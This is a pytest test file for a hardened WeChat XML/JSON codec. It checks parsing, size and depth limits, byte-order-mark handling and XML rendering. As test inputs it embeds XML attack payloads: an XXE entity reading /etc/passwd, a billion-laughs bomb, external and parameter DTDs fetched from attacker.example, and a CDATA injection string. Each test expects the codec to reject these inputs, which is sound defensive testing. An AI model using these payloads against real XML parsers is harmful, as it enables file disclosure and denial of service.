"""The hardened codec: hostile XML and JSON must end in a 400 (or 413), never in expansion or floats."""

from __future__ import annotations

from decimal import Decimal

import pytest

from shared.errors import PayloadTooLarge
from shared.wechat.codec import DEFAULT_MAX_BYTES, MAX_DEPTH, is_json_document, parse_json, parse_xml, render_xml
from shared.wechat.crypto import MalformedPush, MessageCrypto

BOM = b"\xef\xbb\xbf"
TEXT_XML = (
    b"<xml><ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[fromUser]]></FromUserName>"
    b"<CreateTime>1348831860</CreateTime><MsgType><![CDATA[text]]></MsgType>"
    b"<Content><![CDATA[this is a test]]></Content><MsgId>1234567890123456</MsgId></xml>"
)


# --- parse_xml --------------------------------------------------------------------------------------


def test_parse_xml_returns_strings_with_cdata_unwrapped() -> None:
    assert parse_xml(TEXT_XML) == {
        "ToUserName": "toUser",
        "FromUserName": "fromUser",
        "CreateTime": "1348831860",
        "MsgType": "text",
        "Content": "this is a test",
        "MsgId": "1234567890123456",
    }


def test_parse_xml_keeps_values_exactly_as_sent() -> None:
    # Stripping is the push models' job (test_push.py): the payload is stored as WeChat sent it.
    data = "<xml><A><![CDATA[  两 端  ]]></A><B></B><C/><D>a &amp; b</D></xml>".encode()
    assert parse_xml(data) == {"A": "  两 端  ", "B": "", "C": "", "D": "a & b"}


def test_parse_xml_nests_and_lists_repeated_siblings() -> None:
    data = (
        b"<xml>\n<Event><![CDATA[subscribe_msg_popup_event]]></Event>\n<SubscribeMsgPopupEvent>"
        b"<List><TemplateId>a</TemplateId><PopupScene>2</PopupScene></List>"
        b"<List><TemplateId>b</TemplateId><PopupScene>2</PopupScene></List>"
        b"<List><TemplateId>c</TemplateId></List>"
        b"</SubscribeMsgPopupEvent><Single><List><TemplateId>d</TemplateId></List></Single></xml>"
    )
    assert parse_xml(data) == {
        "Event": "subscribe_msg_popup_event",
        "SubscribeMsgPopupEvent": {
            "List": [
                {"TemplateId": "a", "PopupScene": "2"},
                {"TemplateId": "b", "PopupScene": "2"},
                {"TemplateId": "c"},
            ]
        },
        "Single": {"List": {"TemplateId": "d"}},
    }


def test_parse_xml_keeps_64_bit_ids_exact() -> None:
    parsed = parse_xml(b"<xml><MsgId>18446744073709551615</MsgId></xml>")
    assert parsed["MsgId"] == "18446744073709551615"


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Content>&xxe;</Content></xml>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><Content>&lol3;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>x</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<xml/>"""

BARE_DOCTYPE = b"<!DOCTYPE xml><xml><Content>x</Content></xml>"


@pytest.mark.parametrize(
    "data",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, BARE_DOCTYPE],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "bare-doctype"],
)
def test_parse_xml_refuses_dtds_and_entities(data: bytes) -> None:
    with pytest.raises(MalformedPush, match="DTD") as err:
        parse_xml(data)
    assert err.value.status == 400


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not xml",
        b"<xml><Content>unclosed</xml>",
        b"<xml><A>1</A></xml><xml/>",
        b"<xml>&undefined;</xml>",
        b"\xff\xfe<xml/>",
    ],
)
def test_parse_xml_rejects_malformed_xml(data: bytes) -> None:
    with pytest.raises(MalformedPush, match="well-formed"):
        parse_xml(data)


@pytest.mark.parametrize("data", [b"<root><A>1</A></root>", b'<xml xmlns="urn:x"><A>1</A></xml>'])
def test_parse_xml_requires_an_xml_root(data: bytes) -> None:
    with pytest.raises(MalformedPush, match="root"):
        parse_xml(data)


def test_parse_xml_refuses_deep_nesting() -> None:
    ok = b"<xml>" + b"<a>" * (MAX_DEPTH - 1) + b"x" + b"</a>" * (MAX_DEPTH - 1) + b"</xml>"
    parse_xml(ok)
    deep = b"<xml>" + b"<a>" * MAX_DEPTH + b"x" + b"</a>" * MAX_DEPTH + b"</xml>"
    with pytest.raises(MalformedPush, match="deeper"):
        parse_xml(deep)
    # Far deeper than Python's recursion limit, still inside the size cap: must not blow the stack.
    abyss = b"<xml>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</xml>"
    with pytest.raises(MalformedPush, match="deeper"):
        parse_xml(abyss, max_bytes=len(abyss))


def test_parse_xml_refuses_too_many_elements() -> None:
    with pytest.raises(MalformedPush, match="elements"):
        parse_xml(b"<xml>" + b"<a/>" * 10_000 + b"</xml>")


def test_oversized_body_is_413_before_parsing() -> None:
    big = b"<xml><Content>" + b"a" * DEFAULT_MAX_BYTES + b"</Content></xml>"
    with pytest.raises(PayloadTooLarge) as err:
        parse_xml(big)
    assert err.value.status == 413
    with pytest.raises(PayloadTooLarge):
        parse_xml(TEXT_XML, max_bytes=16)
    with pytest.raises(PayloadTooLarge):
        parse_json(b'{"a": "' + b"a" * DEFAULT_MAX_BYTES + b'"}')


# --- parse_json -------------------------------------------------------------------------------------


def test_parse_json_keeps_big_integers_exact() -> None:
    data = b'{"order_info": {"order_id": 3705115058471208928}, "n": 18446744073709551615123}'
    parsed = parse_json(data)
    assert parsed["order_info"]["order_id"] == 3705115058471208928
    assert type(parsed["order_info"]["order_id"]) is int
    assert parsed["n"] == 18446744073709551615123


def test_parse_json_never_produces_floats() -> None:
    parsed = parse_json(b'{"price": 0.1, "big": 3705115058471208928.0, "e": 1e400}')
    assert parsed == {"price": Decimal("0.1"), "big": Decimal("3705115058471208928.0"), "e": Decimal("1e400")}
    assert all(isinstance(v, Decimal) for v in parsed.values())


@pytest.mark.parametrize("constant", [b"NaN", b"Infinity", b"-Infinity"])
def test_parse_json_rejects_non_finite_numbers(constant: bytes) -> None:
    with pytest.raises(MalformedPush, match="not a number"):
        parse_json(b'{"a": ' + constant + b"}")


@pytest.mark.parametrize("data", [b"[]", b'"x"', b"1", b"null"])
def test_parse_json_requires_an_object(data: bytes) -> None:
    with pytest.raises(MalformedPush, match="not an object"):
        parse_json(data)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{",
        b"{'a': 1}",
        b'{"a": 1,}',
        b'{"a": "\xff"}',
        BOM,
        BOM + BOM + b"{}",
        b" " + BOM + b"{}",
        b'{"a": ' + b"9" * 5000 + b"}",
    ],
    ids=[
        "empty",
        "truncated",
        "single-quotes",
        "trailing-comma",
        "not-utf8",
        "bom-only",
        "two-boms",
        "late-bom",
        "huge-int",
    ],
)
def test_parse_json_rejects_malformed_json(data: bytes) -> None:
    with pytest.raises(MalformedPush):
        parse_json(data)


def test_parse_json_refuses_deep_nesting() -> None:
    parse_json(b'{"a":' * MAX_DEPTH + b"1" + b"}" * MAX_DEPTH)
    with pytest.raises(MalformedPush, match="deeper"):
        parse_json(b'{"a":' * (MAX_DEPTH + 1) + b"1" + b"}" * (MAX_DEPTH + 1))
    with pytest.raises(MalformedPush, match="deeper"):
        parse_json(b'{"a":' + b"[" * MAX_DEPTH + b"]" * MAX_DEPTH + b"}")
    with pytest.raises(MalformedPush):
        parse_json(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")


def test_parse_json_reads_utf8() -> None:
    assert parse_json('{"Content": "你好"}'.encode()) == {"Content": "你好"}


# --- a UTF-8 byte order mark ------------------------------------------------------------------------

# SKIT's sample of the mini-program's JSON push, byte order mark and all.
SHOP_JSON = (
    b'{\n    "ToUserName": "gh_123456789abc",\n    "FromUserName": "o7esq5OI1Uej6Xixw1lA2H7XDVbc",\n'
    b'    "CreateTime": "1610968440",\n    "MsgType": "event",\n    "Event": "subscribe_msg_change_event",\n'
    b'    "List": [{"TemplateId": "BEwX0BOT3MqK3Uc5oTU3CGBqzjpndk2jzUf7VfExd8", "SubscribeStatusString": "reject"}]\n}'
)


def test_parse_json_accepts_a_bom_like_parse_xml_does() -> None:
    assert parse_json(BOM + SHOP_JSON) == parse_json(SHOP_JSON)
    assert parse_json(BOM + SHOP_JSON)["Event"] == "subscribe_msg_change_event"
    assert parse_xml(BOM + TEXT_XML) == parse_xml(TEXT_XML)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (SHOP_JSON, True),
        (BOM + SHOP_JSON, True),
        (b"\r\n  " + SHOP_JSON, True),
        (BOM + b"\n" + SHOP_JSON, True),
        (TEXT_XML, False),
        (BOM + TEXT_XML, False),
        (b"", False),
        (BOM, False),
        (b"[]", False),
    ],
)
def test_is_json_document_looks_past_a_bom_and_whitespace(data: bytes, expected: bool) -> None:
    assert is_json_document(data) is expected


@pytest.mark.parametrize("body", [SHOP_JSON, BOM + SHOP_JSON], ids=["plain", "bom"])
def test_a_bom_inside_the_encryption_is_accepted_too(body: bytes) -> None:
    # The decrypted payload is what the gateway sniffs and parses: BOM or not, the same push.
    crypto = MessageCrypto("pamtest", "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG", "wxb11529c136998cb6")
    plaintext = crypto.decrypt(crypto.encrypt(body)).plaintext
    assert plaintext == body
    assert is_json_document(plaintext)
    assert parse_json(plaintext) == parse_json(SHOP_JSON)


# --- render_xml -------------------------------------------------------------------------------------


def test_render_xml_text_reply() -> None:
    reply = render_xml(
        {"ToUserName": "oUser", "FromUserName": "gh_1", "CreateTime": 1700000000, "MsgType": "text", "Content": "hi"}
    )
    assert reply == (
        "<xml><ToUserName><![CDATA[oUser]]></ToUserName><FromUserName><![CDATA[gh_1]]></FromUserName>"
        "<CreateTime>1700000000</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        "<Content><![CDATA[hi]]></Content></xml>"
    )


def test_render_xml_nested_and_repeated_elements() -> None:
    reply = render_xml(
        {
            "MsgType": "news",
            "ArticleCount": 2,
            "Articles": {"item": [{"Title": "t1", "Url": "u1"}, {"Title": "t2", "Url": "u2"}]},
            "Image": {"MediaId": "m"},
            "Skipped": None,
        }
    )
    assert reply == (
        "<xml><MsgType><![CDATA[news]]></MsgType><ArticleCount>2</ArticleCount><Articles>"
        "<item><Title><![CDATA[t1]]></Title><Url><![CDATA[u1]]></Url></item>"
        "<item><Title><![CDATA[t2]]></Title><Url><![CDATA[u2]]></Url></item>"
        "</Articles><Image><MediaId><![CDATA[m]]></MediaId></Image></xml>"
    )
    parsed = parse_xml(reply.encode())
    assert parsed["Articles"]["item"][1] == {"Title": "t2", "Url": "u2"}


@pytest.mark.parametrize(
    "text",
    ["]]>", "a]]>b", "]]]]>", "x]]><Injected>1</Injected><![CDATA[", "<b>&amp;</b>", "]]", "]>", "你好"],
)
def test_render_xml_cdata_round_trips(text: str) -> None:
    rendered = render_xml({"Content": text, "Other": "ok"})
    assert parse_xml(rendered.encode()) == {"Content": text, "Other": "ok"}


def test_render_xml_strips_characters_xml_cannot_carry() -> None:
    rendered = render_xml({"Content": "a\x00b\x08c\x0bd\ufffee\ud800f\tg\n😀"})
    assert parse_xml(rendered.encode()) == {"Content": "abcdef\tg\n😀"}


@pytest.mark.parametrize("value", [1.5, True, b"bytes", object()])
def test_render_xml_rejects_unsupported_values(value: object) -> None:
    with pytest.raises(TypeError):
        render_xml({"A": value})


@pytest.mark.parametrize("tag", ["", "1a", "a b", "a>b", "<x"])
def test_render_xml_rejects_bad_tags(tag: str) -> None:
    with pytest.raises(ValueError, match="element name"):
        render_xml({tag: "x"})
